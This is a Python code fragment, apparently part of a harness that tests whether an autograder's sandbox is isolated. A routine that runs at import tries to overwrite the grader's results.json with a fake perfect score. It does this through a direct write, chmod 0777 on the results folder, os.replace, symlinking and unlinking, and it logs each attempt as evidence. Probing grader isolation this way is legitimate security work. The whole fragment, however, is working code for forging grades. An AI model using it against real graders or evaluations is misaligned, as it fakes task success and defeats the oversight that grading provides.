# ---------------------------------------------------------------- attack: write_results_json
# At import: overwrite results.json with a perfect score (the published attack), directly, through a file of
# our own moved over it, by loosening the results folder, and at Gradescope's own path.
def _attack_write_results_json():
    fake = _ajson.dumps({"score": 1000.0, "tests": [], "output": "PWNED: results.json written by the submission"})
    attempts = []
    for results_dir in _attack_paths("results"):
        target = _aos.path.join(results_dir, "results.json")

        def overwrite(path=target):
            with open(path, "w") as stream:
                stream.write(fake)
            return "written"

        attempts.append(_attack_try(f"open {target} for writing", overwrite))
        attempts.append(_attack_try(f"create {results_dir}/results.json.tmp",
                                    lambda d=results_dir: open(_aos.path.join(d, "results.json.tmp"), "x").write(fake)))
        attempts.append(_attack_try(f"chmod {results_dir} 0777", lambda d=results_dir: _aos.chmod(d, 0o777)))
        own = _aos.path.join(_ATTACK_CONFIG["evidence"], "fake-results.json")
        with open(own, "w") as stream:
            stream.write(fake)
        attempts.append(_attack_try(f"os.replace our file onto {target}", lambda t=target, o=own: _aos.replace(o, t)))
        attempts.append(_attack_try(f"symlink {target} to our file", lambda t=target, o=own: _aos.symlink(o, t)))
        attempts.append(_attack_try(f"unlink {target}", lambda t=target: _aos.unlink(t)))
    _attack_record("write_results_json", attempts=attempts)


if _attack_is_student():
    _attack_write_results_json()
else:
    _attack_record("write_results_json", skipped="not running as the grading account")
